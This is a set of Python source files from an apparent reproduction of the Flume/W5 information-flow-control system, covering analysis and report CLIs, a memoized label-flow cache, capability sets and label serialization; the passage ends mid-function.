    python -m repro.analysis metrics <fleet.json>    # merged metrics
    python -m repro.analysis fleet <fleet.json>      # metrics + health

The first renders pytest-benchmark JSON into the EXPERIMENTS.md
tables; the second renders a saved ``Provider.trace_report()`` dump
(see :mod:`repro.analysis.tracecmd`); the third renders a saved
``Provider.explain(app, viewer)`` dump — the compiled request plan
(see :mod:`repro.analysis.plancmd`); the last two render a saved
``FleetRegistry`` snapshot or fleet dump — merged counters, latency
percentiles, Prometheus exposition, and the health rollup (see
:mod:`repro.analysis.fleetcmd`).
"""

import sys

from .fleetcmd import run_fleet, run_metrics
from .plancmd import run as run_plan
from .report import render_report
from .tracecmd import run as run_trace


def main() -> int:
    argv = sys.argv[1:]
    if argv and argv[0] == "trace":
        return run_trace(argv[1:])
    if argv and argv[0] == "plan":
        return run_plan(argv[1:])
    if argv and argv[0] == "metrics":
        return run_metrics(argv[1:])
    if argv and argv[0] == "fleet":
        return run_fleet(argv[1:])
    if len(argv) != 1 or argv[0].startswith("-"):
        print("usage: python -m repro.analysis <benchmark.json>\n"
              "       python -m repro.analysis trace <report.json> "
              "[--chrome OUT]\n"
              "       python -m repro.analysis plan <explain.json>\n"
              "       python -m repro.analysis metrics <fleet.json> "
              "[--prometheus]\n"
              "       python -m repro.analysis fleet <fleet.json>",
              file=sys.stderr)
        print("(produce the benchmark input with: pytest benchmarks/ "
              "--benchmark-only --benchmark-json=benchmark.json; the "
              "trace input by json.dump-ing Provider.trace_report())",
              file=sys.stderr)
        return 2
    print(render_report(argv[0]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
