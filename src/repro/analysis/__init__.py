"""Analysis: regenerate the documentation's tables from raw outputs."""

from .report import (BenchRow, markdown_table, overhead_factors,
                     parse_benchmark_json, render_report)

__all__ = ["BenchRow", "markdown_table", "overhead_factors",
           "parse_benchmark_json", "render_report"]
