"""Experiment reporting: turn benchmark JSON into the results tables.

``pytest benchmarks/ --benchmark-only --benchmark-json=out.json`` emits
machine-readable timings; this module renders them into the M-series
table EXPERIMENTS.md carries, so the numbers in the documentation are
regenerable with one command::

    python -m repro.analysis out.json

The module is dependency-light on purpose (stdlib json only) so it
works in stripped environments.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any, Iterable


@dataclass(frozen=True)
class BenchRow:
    """One benchmark's summary statistics."""

    name: str
    group: str
    median_s: float
    mean_s: float
    stddev_s: float
    rounds: int

    @property
    def median_us(self) -> float:
        return self.median_s * 1e6

    def human_median(self) -> str:
        s = self.median_s
        if s < 1e-6:
            return f"{s * 1e9:.0f} ns"
        if s < 1e-3:
            return f"{s * 1e6:.1f} µs"
        if s < 1.0:
            return f"{s * 1e3:.2f} ms"
        return f"{s:.2f} s"


def parse_benchmark_json(data: dict[str, Any]) -> list[BenchRow]:
    """Parse the pytest-benchmark JSON structure."""
    rows = []
    for bench in data.get("benchmarks", []):
        stats = bench.get("stats", {})
        name = bench.get("name", "?")
        rows.append(BenchRow(
            name=name,
            group=_group_of(name),
            median_s=float(stats.get("median", 0.0)),
            mean_s=float(stats.get("mean", 0.0)),
            stddev_s=float(stats.get("stddev", 0.0)),
            rounds=int(stats.get("rounds", 0))))
    rows.sort(key=lambda r: (r.group, r.median_s))
    return rows


def _group_of(name: str) -> str:
    """Experiment id from a bench name (test_bench_m1_... -> M1)."""
    parts = name.split("_")
    for part in parts:
        stripped = part.split("[")[0]
        if len(stripped) >= 2 and stripped[0] in "aecm" \
                and stripped[1:].isdigit():
            return stripped.upper()
    return "OTHER"


def markdown_table(rows: Iterable[BenchRow]) -> str:
    """The timing table, markdown-formatted."""
    lines = ["| experiment | benchmark | median | rounds |",
             "|---|---|---|---|"]
    for row in rows:
        short = row.name.replace("test_bench_", "")
        lines.append(f"| {row.group} | `{short}` | "
                     f"{row.human_median()} | {row.rounds} |")
    return "\n".join(lines)


def overhead_factors(rows: Iterable[BenchRow]) -> dict[str, float]:
    """Headline ratios the EXPERIMENTS M-section quotes.

    Returns whatever pairs are present in the data; absent benches are
    simply omitted.
    """
    by_name = {r.name.split("[")[0]: r for r in rows}
    factors: dict[str, float] = {}

    def ratio(key: str, num: str, den: str) -> None:
        if num in by_name and den in by_name and by_name[den].median_s:
            factors[key] = by_name[num].median_s / by_name[den].median_s

    ratio("request_vs_bare", "test_bench_m2_w5_request",
          "test_bench_m2_unprotected_handler")
    ratio("request_vs_static", "test_bench_m2_w5_request",
          "test_bench_m2_static_route")
    ratio("ipc_vs_bare", "test_bench_m4_send_receive",
          "test_bench_m4_unmonitored_baseline")
    ratio("db_vs_bare", "test_bench_m5_cleared_full_scan",
          "test_bench_m5_unlabeled_baseline")
    return factors


def render_report(json_path: str) -> str:
    """Load a benchmark JSON file and render the full report."""
    with open(json_path) as fh:
        data = json.load(fh)
    rows = parse_benchmark_json(data)
    out = ["# Benchmark timing report", "", markdown_table(rows), ""]
    factors = overhead_factors(rows)
    if factors:
        out.append("## Overhead factors")
        out.append("")
        for key, value in sorted(factors.items()):
            out.append(f"- {key}: {value:.1f}x")
    return "\n".join(out)
