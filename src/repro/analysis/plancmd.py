"""The ``plan`` subcommand: render a compiled request plan.

``Provider.explain(app, viewer)`` dumps the compiled
:class:`~repro.platform.plans.RequestPlan` for one (app, viewer) pair
as a JSON-serializable dict — the launch capabilities, pool key,
partition verdicts, egress verdict and the epoch stamps that guard the
plan's validity.  This module turns a saved copy of that dict into the
operator view::

    python -m repro.analysis plan explain.json

Produce the input with ``json.dump(provider.explain("blog", "alice"),
open("explain.json", "w"))``.  Dependency-light on purpose (stdlib
json only), mirroring :mod:`repro.analysis.tracecmd`.
"""

from __future__ import annotations

import json
import sys
from typing import Any


def render_plan(desc: dict[str, Any]) -> str:
    """The operator view of one ``Provider.explain`` dump."""
    out = ["# Request plan", ""]
    app = desc.get("app", "?")
    viewer = desc.get("viewer")
    if not desc.get("planned"):
        out.append(f"- app: `{app}`  viewer: `{viewer or 'anonymous'}`")
        out.append("- **not planned** — this pair takes the generic path")
        reason = desc.get("reason")
        if reason:
            out.append(f"- reason: {reason}")
        return "\n".join(out)
    app_info = desc.get("app", {})
    out.append(f"- app: `{app_info.get('name')}` "
               f"v{app_info.get('version')} "
               f"(developer: {app_info.get('developer')})")
    out.append(f"- viewer: `{viewer or 'anonymous'}`")
    if "provider" in desc:
        out.append(f"- provider: `{desc['provider']}`")
    if "dispatch_enabled" in desc:
        state = "enabled" if desc["dispatch_enabled"] else \
            "disabled (plan compiled on demand)"
        out.append(f"- planned dispatch: {state}")

    pool = desc.get("pool_key", {})
    out += ["", "## Launch", "",
            f"- process: `{desc.get('process_name')}`",
            f"- pool key: name=`{pool.get('name')}` "
            f"S={pool.get('slabel')} I={pool.get('ilabel')} "
            f"({pool.get('caps', 0)} caps)"]
    caps = desc.get("launch_caps", [])
    out.append(f"- launch capabilities ({len(caps)}):")
    for cap in caps:
        out.append(f"  - `{cap}`")

    egress = desc.get("egress", {})
    out += ["", "## Egress", ""]
    if egress.get("precomputed"):
        auth = egress.get("authority") or []
        out.append(f"- export authority precomputed ({len(auth)} caps)")
        for cap in auth:
            out.append(f"  - `{cap}`")
    else:
        out.append("- export authority resolved live (a time-dependent "
                   "declassifier grant exists)")
    out.append(f"- allow-audit detail: \"{egress.get('allow_detail')}\"")

    admission = desc.get("admission", {})
    out += ["", "## Admission", "",
            "- statically admitted (no rate limit configured)"
            if admission.get("static")
            else "- rate-limited: admission runs live per request"]

    epochs = desc.get("epochs", {})
    out += ["", "## Validity (epoch stamps)", "",
            f"- capability index: {epochs.get('capindex')}",
            f"- export authority: {epochs.get('authority')}",
            f"- app registry: {epochs.get('registry')}"]

    verdicts = desc.get("partition_verdicts", [])
    if verdicts:
        out += ["", "## Partition verdicts", ""]
        for entry in verdicts:
            subj = entry.get("subject", {})
            out.append(f"- subject S={subj.get('slabel')} "
                       f"I={subj.get('ilabel')} "
                       f"({subj.get('caps', 0)} caps):")
            for part in entry.get("partitions", []):
                verdict = "read" if part.get("readable") else "skip"
                out.append(f"  - {verdict}: S={part.get('slabel')} "
                           f"I={part.get('ilabel')}")
    else:
        out += ["", "## Partition verdicts", "",
                "- none cached yet (populated lazily as requests scan)"]

    config = desc.get("config")
    if config:
        out += ["", "## Provider config", ""]
        for key, value in sorted(config.items()):
            out.append(f"- {key}: {value}")
    return "\n".join(out)


def run(argv: list[str]) -> int:
    if len(argv) != 1 or argv[0].startswith("-"):
        print("usage: python -m repro.analysis plan <explain.json>\n"
              "(produce the input by json.dump-ing "
              "Provider.explain(app, viewer))", file=sys.stderr)
        return 2
    with open(argv[0], "r", encoding="utf-8") as fh:
        desc = json.load(fh)
    print(render_plan(desc))
    return 0
