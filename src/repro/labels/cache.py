"""The fast-path label engine: memoized flow decisions.

Every request in the reproduction funnels through the reference
monitor, so the label checks in :mod:`repro.labels.flow` are *the* hot
path.  Flume (Krohn et al., SOSP 2007) kept per-message checks cheap by
exploiting label immutability; this module is that optimization for W5:
since :class:`~repro.labels.label.Label` and
:class:`~repro.labels.capabilities.CapabilitySet` are immutable and
interned, every pure decision — ``can_flow``, label-change legality,
endpoint reach, export residue — is a function of its (identity-
comparable) arguments and can be memoized forever.

Two layers
----------

* **Pure memos** key on the interned argument tuples.  These entries
  can never go stale: the inputs are immutable values, so a recorded
  verdict is a theorem, not a snapshot.  They are bounded (clear-on-
  overflow) purely to cap memory.

* **Subject verdicts** cache storage read/write decisions *per
  subject* (a kernel process) so a database scan or directory walk
  re-checks each distinct (secrecy, integrity) row label pair once.
  Subjects are mutable — their labels and capabilities change through
  kernel syscalls — so this layer is guarded twice:

  - every subject entry records the subject's ``label_epoch`` (bumped
    by :class:`~repro.kernel.process.Process` on *any* label or
    capability assignment) and is discarded on mismatch, and
  - the kernel's label-change syscalls call
    :meth:`FlowCache.invalidate_subject` explicitly, which also keeps
    the invalidation observable in :meth:`stats`.

  The classic cache-poisoning bug — serving a verdict recorded under
  labels the process no longer has — is impossible under either guard
  alone; we keep both because the epoch also protects against trusted
  code mutating a process outside the syscall surface.

Semantics are preserved exactly: a cached *allow* replays a decision
computed by the very functions in :mod:`repro.labels.flow`, and every
*deny* on a raising path is re-derived uncached so diagnostics (which
name the offending tags) are byte-identical.  The differential property
test in ``tests/kernel/test_cache_differential.py`` drives cached and
uncached kernels through identical histories and asserts every
allow/deny matches.
"""

from __future__ import annotations

from time import perf_counter
from typing import Any, Callable, Optional, Protocol

from . import flow
from .capabilities import CapabilitySet
from .label import Label

#: Signature of the optional latency observer: (category, seconds).
LatencyObserver = Callable[[str, float], None]


class Subject(Protocol):
    """What the subject-verdict layer needs from a kernel process."""

    pid: int
    label_epoch: int
    slabel: Label
    ilabel: Label
    caps: CapabilitySet


class _SubjectEntry:
    """Cached storage verdicts for one subject at one label epoch."""

    __slots__ = ("epoch", "read", "write")

    def __init__(self, epoch: int) -> None:
        self.epoch = epoch
        self.read: dict[tuple[Label, Label], bool] = {}
        self.write: dict[tuple[Label, Label], bool] = {}


class FlowCache:
    """Memoization layer over the trusted decision procedure.

    One instance per :class:`~repro.kernel.Kernel`.  ``enabled=False``
    turns every method into a pass-through recomputation — the
    differential tests and the before/after benchmarks use this to
    compare cached and uncached behaviour on the same code path.

    ``max_entries`` bounds each pure memo table; on overflow the table
    is cleared (O(1) amortized, no LRU bookkeeping on the hot path).
    """

    def __init__(self, enabled: bool = True, max_entries: int = 65536,
                 observer: Optional[LatencyObserver] = None) -> None:
        self.enabled = enabled
        self.max_entries = max_entries
        #: Optional latency sink, set by Metrics.attach_flow_cache.
        self.observer = observer
        # pure memos
        self._secrecy: dict[tuple, bool] = {}
        self._integrity: dict[tuple, bool] = {}
        self._message: dict[tuple, bool] = {}
        self._change: dict[tuple, bool] = {}
        self._endpoint: dict[tuple, bool] = {}
        self._residue: dict[tuple, Label] = {}
        # subject verdicts
        self._subjects: dict[int, _SubjectEntry] = {}
        # observability
        self._hits: dict[str, int] = {}
        self._misses: dict[str, int] = {}
        self._invalidations: dict[str, int] = {}
        self._stale_drops = 0
        self._evictions = 0
        #: Bumped by every :meth:`invalidate_all`.  Derived caches that
        #: sit on top of this one (the kernel's compiled
        #: TransitionCache, M14) compare generations instead of
        #: registering callbacks.
        self.generation = 0

    # ------------------------------------------------------------------
    # bookkeeping
    # ------------------------------------------------------------------

    def _hit(self, category: str) -> None:
        self._hits[category] = self._hits.get(category, 0) + 1

    def _miss(self, category: str) -> None:
        self._misses[category] = self._misses.get(category, 0) + 1

    def _bound(self, table: dict) -> None:
        if len(table) >= self.max_entries:
            table.clear()
            self._evictions += 1

    def _observed(self, category: str, fn: Callable[[], Any]) -> Any:
        """Run ``fn``, reporting its latency to the attached observer.

        Used by the raising/consumer-facing checks so Metrics can track
        per-category flow-check latency; zero overhead beyond one
        attribute test when no observer is attached.
        """
        obs = self.observer
        if obs is None:
            return fn()
        t0 = perf_counter()
        try:
            return fn()
        finally:
            obs(category, perf_counter() - t0)

    def _memo(self, table: dict, key: tuple, category: str,
              compute: Callable[[], Any]) -> Any:
        cached = table.get(key)
        if cached is not None:
            self._hit(category)
            return cached
        self._miss(category)
        value = compute()
        self._bound(table)
        table[key] = value
        return value

    # ------------------------------------------------------------------
    # pure memos (immutable inputs: entries never go stale)
    # ------------------------------------------------------------------

    def can_flow_secrecy(self, s_from: Label, s_to: Label,
                         d_from: CapabilitySet = CapabilitySet.EMPTY,
                         d_to: CapabilitySet = CapabilitySet.EMPTY,
                         category: str = "flow") -> bool:
        if not self.enabled:
            return flow.can_flow_secrecy(s_from, s_to, d_from, d_to)
        key = (s_from, s_to, d_from, d_to)
        cached = self._secrecy.get(key)
        if cached is not None:
            self._hit(category)
            return cached
        self._miss(category)
        value = flow.can_flow_secrecy(s_from, s_to, d_from, d_to)
        self._bound(self._secrecy)
        self._secrecy[key] = value
        return value

    def can_flow_integrity(self, i_from: Label, i_to: Label,
                           d_from: CapabilitySet = CapabilitySet.EMPTY,
                           d_to: CapabilitySet = CapabilitySet.EMPTY,
                           category: str = "flow") -> bool:
        if not self.enabled:
            return flow.can_flow_integrity(i_from, i_to, d_from, d_to)
        key = (i_from, i_to, d_from, d_to)
        cached = self._integrity.get(key)
        if cached is not None:
            self._hit(category)
            return cached
        self._miss(category)
        value = flow.can_flow_integrity(i_from, i_to, d_from, d_to)
        self._bound(self._integrity)
        self._integrity[key] = value
        return value

    def can_flow(self, s_from: Label, i_from: Label, s_to: Label,
                 i_to: Label, d_from: CapabilitySet = CapabilitySet.EMPTY,
                 d_to: CapabilitySet = CapabilitySet.EMPTY,
                 category: str = "ipc") -> bool:
        """Memoized combined safe-message check (the IPC hot path)."""
        if not self.enabled:
            return flow.can_flow(s_from, i_from, s_to, i_to, d_from, d_to)
        key = (s_from, i_from, s_to, i_to, d_from, d_to)
        cached = self._message.get(key)
        if cached is not None:
            self._hit(category)
            return cached
        self._miss(category)
        value = flow.can_flow(s_from, i_from, s_to, i_to, d_from, d_to)
        self._bound(self._message)
        self._message[key] = value
        return value

    def check_flow(self, s_from: Label, i_from: Label, s_to: Label,
                   i_to: Label, d_from: CapabilitySet = CapabilitySet.EMPTY,
                   d_to: CapabilitySet = CapabilitySet.EMPTY,
                   what: str = "message", category: str = "ipc") -> None:
        """Raising variant: allows ride the memo; denials re-derive the
        precise :class:`SecrecyViolation`/:class:`IntegrityViolation`
        (with the offending tag ids) through the uncached path, so the
        diagnostics are identical to a cache-free kernel's."""
        if self.observer is not None:
            allowed = self._observed(category, lambda: self.can_flow(
                s_from, i_from, s_to, i_to, d_from, d_to, category=category))
        else:
            allowed = self.can_flow(s_from, i_from, s_to, i_to, d_from, d_to,
                                    category=category)
        if allowed:
            return
        flow.check_flow(s_from, i_from, s_to, i_to, d_from, d_to, what=what)
        raise AssertionError(
            f"flow cache and decision procedure disagree on {what}")

    def label_change_allowed(self, old: Label, new: Label,
                             caps: CapabilitySet,
                             category: str = "label_change") -> bool:
        if not self.enabled:
            return flow.label_change_allowed(old, new, caps)
        return self._memo(self._change, (old, new, caps), category,
                          lambda: flow.label_change_allowed(old, new, caps))

    def check_label_change(self, old: Label, new: Label, caps: CapabilitySet,
                           what: str = "label",
                           category: str = "label_change") -> None:
        """Raising variant of :meth:`label_change_allowed` (same
        deny-recompute discipline as :meth:`check_flow`)."""
        if self.label_change_allowed(old, new, caps, category=category):
            return
        flow.check_label_change(old, new, caps, what=what)
        raise AssertionError(
            f"flow cache and decision procedure disagree on {what}")

    def endpoint_legal(self, declared_s: Label, declared_i: Label,
                       subj_s: Label, subj_i: Label, caps: CapabilitySet,
                       category: str = "endpoint") -> bool:
        """Memoized endpoint-declaration legality (both axes)."""
        if not self.enabled:
            return (flow.endpoint_label_legal(declared_s, subj_s, caps)
                    and flow.endpoint_label_legal(declared_i, subj_i, caps))
        return self._memo(
            self._endpoint, (declared_s, declared_i, subj_s, subj_i, caps),
            category,
            lambda: (flow.endpoint_label_legal(declared_s, subj_s, caps)
                     and flow.endpoint_label_legal(declared_i, subj_i, caps)))

    def exportable_residue(self, s: Label, caps: CapabilitySet,
                           category: str = "export") -> Label:
        """Memoized :func:`repro.labels.flow.exportable_tags` — the
        gateway/email perimeter check."""
        if self.observer is not None:
            return self._observed(category, lambda: self._exportable_residue(
                s, caps, category))
        return self._exportable_residue(s, caps, category)

    def _exportable_residue(self, s: Label, caps: CapabilitySet,
                            category: str) -> Label:
        if not self.enabled:
            return flow.exportable_tags(s, caps)
        return self._memo(self._residue, (s, caps), category,
                          lambda: flow.exportable_tags(s, caps))

    # ------------------------------------------------------------------
    # subject verdicts (mutable subjects: epoch-guarded + invalidated)
    # ------------------------------------------------------------------

    def _subject_entry(self, subject: Subject) -> _SubjectEntry:
        entry = self._subjects.get(subject.pid)
        epoch = subject.label_epoch
        if entry is None or entry.epoch != epoch:
            if entry is not None:
                self._stale_drops += 1
            entry = _SubjectEntry(epoch)
            self._subjects[subject.pid] = entry
        return entry

    def readable(self, subject: Subject, slabel: Label, ilabel: Label,
                 category: str = "read") -> bool:
        """Cached storage read verdict (files and rows share the rule)."""
        if self.observer is not None:
            return self._observed(category, lambda: self._readable(
                subject, slabel, ilabel, category))
        return self._readable(subject, slabel, ilabel, category)

    def _readable(self, subject: Subject, slabel: Label, ilabel: Label,
                  category: str) -> bool:
        if not self.enabled:
            return flow.can_read(slabel, ilabel, subject.slabel,
                                 subject.ilabel, subject.caps)
        entry = self._subject_entry(subject)
        key = (slabel, ilabel)
        cached = entry.read.get(key)
        if cached is not None:
            self._hit(category)
            return cached
        self._miss(category)
        value = flow.can_read(slabel, ilabel, subject.slabel,
                              subject.ilabel, subject.caps)
        if len(entry.read) >= self.max_entries:
            entry.read.clear()
            self._evictions += 1
        entry.read[key] = value
        return value

    def writable(self, subject: Subject, slabel: Label, ilabel: Label,
                 category: str = "write") -> bool:
        """Cached storage write verdict."""
        if self.observer is not None:
            return self._observed(category, lambda: self._writable(
                subject, slabel, ilabel, category))
        return self._writable(subject, slabel, ilabel, category)

    def _writable(self, subject: Subject, slabel: Label, ilabel: Label,
                  category: str) -> bool:
        if not self.enabled:
            return flow.can_write(slabel, ilabel, subject.slabel,
                                  subject.ilabel, subject.caps)
        entry = self._subject_entry(subject)
        key = (slabel, ilabel)
        cached = entry.write.get(key)
        if cached is not None:
            self._hit(category)
            return cached
        self._miss(category)
        value = flow.can_write(slabel, ilabel, subject.slabel,
                               subject.ilabel, subject.caps)
        if len(entry.write) >= self.max_entries:
            entry.write.clear()
            self._evictions += 1
        entry.write[key] = value
        return value

    # ------------------------------------------------------------------
    # batched subject verdicts (the partition-scan fast path)
    # ------------------------------------------------------------------

    def readable_many(self, subject: Subject,
                      pairs: "list[tuple[Label, Label]]",
                      category: str = "read"
                      ) -> dict[tuple[Label, Label], bool]:
        """Resolve read verdicts for many (slabel, ilabel) pairs at once.

        Semantically identical to calling :meth:`readable` per pair,
        but the subject entry (and its epoch guard) is fetched once for
        the whole batch — this is what the label-partitioned storage
        engine calls with one pair per *partition*, so a scan's label
        cost is O(distinct labels), not O(rows).
        """
        if self.observer is not None:
            return self._observed(category, lambda: self._many(
                subject, pairs, category, write=False))
        return self._many(subject, pairs, category, write=False)

    def writable_many(self, subject: Subject,
                      pairs: "list[tuple[Label, Label]]",
                      category: str = "write"
                      ) -> dict[tuple[Label, Label], bool]:
        """Batched :meth:`writable` (same contract as
        :meth:`readable_many`)."""
        if self.observer is not None:
            return self._observed(category, lambda: self._many(
                subject, pairs, category, write=True))
        return self._many(subject, pairs, category, write=True)

    def _many(self, subject: Subject, pairs, category: str,
              write: bool) -> dict[tuple[Label, Label], bool]:
        decide = flow.can_write if write else flow.can_read
        if not self.enabled:
            return {key: decide(key[0], key[1], subject.slabel,
                                subject.ilabel, subject.caps)
                    for key in pairs}
        entry = self._subject_entry(subject)
        table = entry.write if write else entry.read
        out: dict[tuple[Label, Label], bool] = {}
        for key in pairs:
            cached = table.get(key)
            if cached is None:
                self._miss(category)
                cached = decide(key[0], key[1], subject.slabel,
                                subject.ilabel, subject.caps)
                if len(table) >= self.max_entries:
                    table.clear()
                    self._evictions += 1
                table[key] = cached
            else:
                self._hit(category)
            out[key] = cached
        return out

    # ------------------------------------------------------------------
    # invalidation (fired by kernel label-change syscalls)
    # ------------------------------------------------------------------

    def invalidate_subject(self, pid: int,
                           reason: str = "label-change") -> None:
        """Evict every cached verdict for ``pid``.

        The kernel calls this from every syscall that changes a
        process's labels or capabilities (``change_label``,
        ``create_tag``, ``drop_caps``, capability delegation on
        ``receive``) and from process exit.  The epoch guard would
        already refuse stale entries; the explicit hook reclaims the
        memory and makes invalidation observable in :meth:`stats`.
        """
        if self._subjects.pop(pid, None) is not None:
            self._invalidations[reason] = \
                self._invalidations.get(reason, 0) + 1

    def invalidate_all(self, reason: str = "explicit") -> None:
        """Drop everything — pure memos included.  Only needed when tag
        *identity* is rewired underneath the kernel (registry restore);
        ordinary label changes never require it."""
        self._secrecy.clear()
        self._integrity.clear()
        self._message.clear()
        self._change.clear()
        self._endpoint.clear()
        self._residue.clear()
        self._subjects.clear()
        self.generation += 1
        self._invalidations[reason] = self._invalidations.get(reason, 0) + 1

    # ------------------------------------------------------------------
    # observability
    # ------------------------------------------------------------------

    def stats(self) -> dict[str, Any]:
        """Counters for metrics/benchmarks (see
        :meth:`repro.core.metrics.Metrics.cache_snapshot`)."""
        return {
            "hits": dict(self._hits),
            "misses": dict(self._misses),
            "invalidations": dict(self._invalidations),
            "hit_total": sum(self._hits.values()),
            "miss_total": sum(self._misses.values()),
            "invalidation_total": sum(self._invalidations.values()),
            "stale_drops": self._stale_drops,
            "evictions": self._evictions,
            "entries": (len(self._secrecy) + len(self._integrity)
                        + len(self._message) + len(self._change)
                        + len(self._endpoint) + len(self._residue)
                        + sum(len(e.read) + len(e.write)
                              for e in self._subjects.values())),
            "enabled": self.enabled,
        }

    def hit_rate(self) -> float:
        hits = sum(self._hits.values())
        total = hits + sum(self._misses.values())
        return hits / total if total else 0.0
