"""Capabilities: the privileges that let a process change its labels.

Flume's model gives a process a set of capabilities, each of which is a
tag with a sign:

* ``t+`` — the holder may *add* ``t`` to one of its labels (for a
  secrecy tag: the holder may read ``t``-tainted data by raising its
  own secrecy; for an integrity tag: the holder may *claim* ``t``).
* ``t-`` — the holder may *remove* ``t`` (for secrecy: declassify; for
  integrity: drop an endorsement).

A process that holds both signs *owns* the tag and can move data across
the ``t`` boundary at will — this is exactly the privilege an end-user
delegates to a declassifier in W5 (§3.1).
"""

from __future__ import annotations

import weakref
from dataclasses import dataclass
from typing import Iterable, Iterator

from .label import Label
from .tags import Tag

PLUS = "+"
MINUS = "-"


@dataclass(frozen=True, slots=True)
class Capability:
    """A single signed capability, ``t+`` or ``t-``."""

    tag: Tag
    sign: str

    def __post_init__(self) -> None:
        if self.sign not in (PLUS, MINUS):
            raise ValueError(f"capability sign must be '+' or '-', got {self.sign!r}")

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        return f"{self.tag.tag_id}:{self.tag.purpose}{self.sign}"


def plus(tag: Tag) -> Capability:
    """Shorthand for ``Capability(tag, '+')``."""
    return Capability(tag, PLUS)


def minus(tag: Tag) -> Capability:
    """Shorthand for ``Capability(tag, '-')``."""
    return Capability(tag, MINUS)


class CapabilitySet:
    """An immutable, *interned* set of capabilities with the derived
    views the flow rules need.

    ``plus_tags`` / ``minus_tags`` are the Flume ``D+`` / ``D-`` sets: the
    tags the holder could add to, respectively remove from, its labels.

    Like :class:`~repro.labels.label.Label`, capability sets intern:
    constructing a set whose capabilities already exist returns the
    same object, so equality is usually pointer equality and the memo
    tables in :mod:`repro.labels.cache` key on capability sets
    directly.  Interning also makes the derived ``D+``/``D-`` labels
    computed once per distinct set rather than per construction.
    """

    __slots__ = ("_caps", "_plus", "_minus", "__weakref__")

    EMPTY: "CapabilitySet"

    #: Keyed by full tag identity + sign (see Label._intern for why
    #: Capability equality, which follows tag-id equality, is not
    #: enough to substitute one registry's capabilities for another's).
    _intern: "weakref.WeakValueDictionary[frozenset, CapabilitySet]" = \
        weakref.WeakValueDictionary()

    def __new__(cls, caps: Iterable[Capability] = ()) -> "CapabilitySet":
        cap_set = frozenset(caps)
        key = frozenset(
            (c.tag.tag_id, c.tag.purpose, c.tag.kind, c.tag.owner, c.sign)
            for c in cap_set)
        cached = cls._intern.get(key)
        if cached is not None:
            return cached
        self = super().__new__(cls)
        self._caps = cap_set
        self._plus = Label(c.tag for c in cap_set if c.sign == PLUS)
        self._minus = Label(c.tag for c in cap_set if c.sign == MINUS)
        cls._intern[key] = self
        return self

    def __reduce__(self):
        # Re-enter the intern table on unpickle/copy.
        return (CapabilitySet, (tuple(self._caps),))

    # -- views ----------------------------------------------------------

    @property
    def plus_tags(self) -> Label:
        """Tags the holder may add (Flume's ``D+``)."""
        return self._plus

    @property
    def minus_tags(self) -> Label:
        """Tags the holder may remove (Flume's ``D-``)."""
        return self._minus

    def owned_tags(self) -> Label:
        """Tags for which the holder has both signs (full ownership)."""
        return self._plus & self._minus

    def owns(self, tag: Tag) -> bool:
        return tag in self._plus and tag in self._minus

    def can_add(self, tag: Tag) -> bool:
        return tag in self._plus

    def can_remove(self, tag: Tag) -> bool:
        return tag in self._minus

    # -- set protocol -----------------------------------------------------

    def __contains__(self, cap: Capability) -> bool:
        return cap in self._caps

    def __iter__(self) -> Iterator[Capability]:
        return iter(self._caps)

    def __len__(self) -> int:
        return len(self._caps)

    def __eq__(self, other: object) -> bool:
        if self is other:
            return True
        if isinstance(other, CapabilitySet):
            return self._caps == other._caps
        return NotImplemented

    def __hash__(self) -> int:
        return hash(self._caps)

    def __or__(self, other: "CapabilitySet | Iterable[Capability]") -> "CapabilitySet":
        other_caps = other._caps if isinstance(other, CapabilitySet) else frozenset(other)
        return CapabilitySet(self._caps | other_caps)

    def __sub__(self, other: "CapabilitySet | Iterable[Capability]") -> "CapabilitySet":
        other_caps = other._caps if isinstance(other, CapabilitySet) else frozenset(other)
        return CapabilitySet(self._caps - other_caps)

    def __le__(self, other: "CapabilitySet") -> bool:
        return self._caps <= other._caps

    # -- constructors ------------------------------------------------------

    @classmethod
    def owning(cls, *tags: Tag) -> "CapabilitySet":
        """A capability set that fully owns every tag in ``tags``."""
        caps: list[Capability] = []
        for t in tags:
            caps.append(plus(t))
            caps.append(minus(t))
        return cls(caps)

    def grant(self, *caps: Capability) -> "CapabilitySet":
        """Return a new set with ``caps`` added."""
        return CapabilitySet(self._caps | set(caps))

    def revoke(self, *caps: Capability) -> "CapabilitySet":
        """Return a new set with ``caps`` removed."""
        return CapabilitySet(self._caps - set(caps))

    def restricted_to(self, caps: Iterable[Capability]) -> "CapabilitySet":
        """Intersection — used when spawning with attenuated privilege."""
        return CapabilitySet(self._caps & frozenset(caps))

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        return f"CapabilitySet({sorted(map(repr, self._caps))})"


CapabilitySet.EMPTY = CapabilitySet()
