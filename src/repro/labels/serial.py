"""Serialization of labels and capabilities.

Federation (§3.3) moves labels between providers, and the labeled
filesystem persists them; both need a stable wire form.  We serialize
to plain JSON-able dicts keyed by tag id plus the audit metadata, and
deserialize *through a registry* so that tag identity is preserved (a
tag id is only meaningful relative to its registry's namespace).
"""

from __future__ import annotations

from typing import Any

from .capabilities import Capability, CapabilitySet
from .errors import TagError
from .label import Label
from .tags import Tag, TagRegistry


def tag_to_dict(tag: Tag) -> dict[str, Any]:
    """A JSON-able description of ``tag`` (id + audit metadata)."""
    return {
        "tag_id": tag.tag_id,
        "purpose": tag.purpose,
        "kind": tag.kind,
        "owner": tag.owner,
    }


def label_to_dict(label: Label, namespace: str) -> dict[str, Any]:
    """Serialize ``label``, recording the minting namespace."""
    return {
        "namespace": namespace,
        "tags": sorted((tag_to_dict(t) for t in label), key=lambda d: d["tag_id"]),
    }


def label_from_dict(data: dict[str, Any], registry: TagRegistry) -> Label:
    """Rebuild a label inside ``registry``.

    Tags minted by ``registry`` itself are resolved by id (and must
    still exist); tags from a different namespace are mapped through
    :meth:`TagRegistry.import_foreign`, so repeated transfers of the
    same foreign tag converge on one local tag.
    """
    namespace = data.get("namespace", "")
    tags: list[Tag] = []
    for td in data.get("tags", []):
        if namespace == registry.namespace:
            tags.append(registry.lookup(td["tag_id"]))
        else:
            tags.append(registry.import_foreign(
                namespace, td["tag_id"],
                purpose=td.get("purpose", ""),
                kind=td.get("kind", "secrecy"),
                owner=td.get("owner")))
    return Label(tags)


def capability_to_dict(cap: Capability, namespace: str) -> dict[str, Any]:
    return {"namespace": namespace, "sign": cap.sign, "tag": tag_to_dict(cap.tag)}


def capability_from_dict(data: dict[str, Any], registry: TagRegistry) -> Capability:
    namespace = data.get("namespace", "")
    td = data["tag"]
    if namespace == registry.namespace:
